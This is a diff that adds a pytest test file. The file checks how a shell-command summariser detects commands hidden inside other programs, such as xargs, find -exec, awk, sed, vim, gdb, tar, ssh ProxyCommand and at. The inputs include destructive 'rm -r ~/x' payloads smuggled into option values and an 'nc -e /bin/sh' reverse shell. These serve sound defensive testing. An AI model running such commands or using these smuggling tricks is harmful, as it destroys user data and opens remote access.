@@ -1,0 +1,39 @@
+"""Programs that run other commands in their own way."""
+
+from __future__ import annotations
+
+import pytest
+
+
+@pytest.mark.parametrize(("command", "expected"), [
+    ('ls | xargs rm -r', ['ls', 'rm D:./*']),
+    ('echo ~/x | xargs rm -r', ['echo', 'rm D:~/x']),
+    ('echo ~/x | xargs -I{} cp {} /tmp/', ['echo', 'cp R:~/x W:/tmp W:/tmp/x']),
+    ('xargs -a list.txt rm', ['rm D:?{}']),
+    ('xargs', ['xargs']),
+    ("find ~ -name '*.log' -exec rm {} +", ['find', 'rm D:~/*.log']),
+    ('find ~ -type f -exec sh -c \'rm "$1"\' _ {} \\;', ['find', 'rm D:~/*']),
+    ('find . -name x', ['find']),
+    ('fd -e log -x rm', ['fd', 'rm D:./*']),
+    ('awk \'BEGIN{system("rm -r ~/x")}\'', ['awk', 'rm D:~/x']),
+    ("awk '{print $1}' f", ['awk R:./f']),
+    ('awk \'{print > "out.txt"}\' f', ['awk R:./f W:./out.txt']),
+    ("sed -n '1e rm -r ~/x' f", ['sed R:./f', 'rm D:~/x']),
+    ("sed 's/e rm/x/' f", ['sed R:./f']),
+    ("vim -c '!rm -r ~/x' a", ['vim W:./a', 'rm D:~/x']),
+    ('vim +10 a', ['vim W:./+10 W:./a']),
+    ("gdb -batch -ex 'shell rm -r ~/x'", ['gdb', 'rm D:~/x']),
+    ("gdb -batch -ex 'bt' ./prog", ['gdb R:./prog']),
+    ("tar cf a.tar --to-command='rm -r ~/x' b", ['tar R:./b W:./a.tar', 'rm D:~/x']),
+    ("tar cf a.tar --checkpoint=1 --checkpoint-action=exec='rm -r ~/x' b", ['tar R:./b W:./a.tar', 'rm D:~/x']),
+    ("split --filter='rm -r ~/x' big.csv", ['split R:./big.csv', 'rm D:~/x']),
+    ("sort --compress-program='rm -r ~/x' f", ['sort R:./f', 'rm D:~/x']),
+    ("ssh -o ProxyCommand='rm -r ~/x' host", ['rm D:~/x', 'ssh H:host']),
+    ('rsync -e \'sh -c "rm -r ~/x"\' a host:b', ['rsync R:./a H:host', 'rm D:~/x']),
+    ('nc -e /bin/sh 10.0.0.1 4444', ['nc H:10.0.0.1', 'sh']),
+    ("echo 'rm -r ~/x' | at now", ['echo', 'at', 'rm D:~/x &']),
+    ('make', ['make']),
+    ('npm test', ['npm']),
+])
+def test_commands_inside_programs(brief, command, expected):
+    assert brief(command) == expected
